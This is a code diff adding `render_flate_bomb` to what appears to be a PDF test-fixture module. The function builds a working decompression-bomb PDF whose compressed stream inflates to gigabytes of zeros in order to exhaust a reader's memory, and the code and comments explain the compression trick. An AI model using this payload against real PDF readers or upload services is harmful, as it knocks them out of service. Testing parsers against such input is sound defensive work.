@@ -144,3 +144,40 @@ def render_text_pdf(text: str, out: str | Path, *, encrypt: str | None = None) -
                 writer.paragraph(line.strip())
     writer.finish()
     return out
+
+
+def render_flate_bomb(out: str | Path, expanded_mb: int = 2560) -> Path:
+    """A one-page PDF whose content stream inflates from ~1/1000 of its size to `expanded_mb`
+    MB of zeros: a reader without a memory limit allocates it all."""
+    import zlib
+
+    block = bytes(16 * 1024 * 1024)
+    packer = zlib.compressobj(9)
+    # after a full flush the compressor forgets its history, so every further block of
+    # zeros packs to the same bytes: pack two, repeat the second, end with the right Adler-32
+    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    blocks = max(2, expanded_mb // 16)
+    adler = ((blocks * len(block)) % 65521) << 16 | 1
+    stream = first + again * (blocks - 1) + packer.flush()[:-4] + adler.to_bytes(4, "big")
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
+        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
+    ]
+    data = bytearray(b"%PDF-1.4\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(data))
+        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    xref = len(data)
+    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    data += b"".join(b"%010d 00000 n \n" % o for o in offsets)
+    data += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        xref,
+    )
+    out = Path(out)
+    out.write_bytes(bytes(data))
+    return out
